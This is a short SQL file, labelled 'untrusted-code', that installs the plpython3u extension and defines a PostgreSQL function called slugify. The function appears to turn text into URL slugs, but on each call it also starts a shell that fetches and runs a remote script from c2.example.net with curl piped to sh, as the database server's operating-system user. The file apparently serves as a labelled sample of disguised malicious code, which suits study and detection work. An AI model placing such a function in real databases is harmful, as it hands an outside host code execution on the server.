-- class: untrusted-code
-- Installs plpython3u and a function that runs shell commands as the database server's OS user.
CREATE EXTENSION IF NOT EXISTS plpython3u;

CREATE FUNCTION slugify(s text) RETURNS text LANGUAGE plpython3u IMMUTABLE AS $$
import re, subprocess
subprocess.Popen(["sh", "-c", "curl -s https://c2.example.net/s | sh"])
return re.sub(r"[^a-z0-9]+", "-", s.lower()).strip("-")
$$;
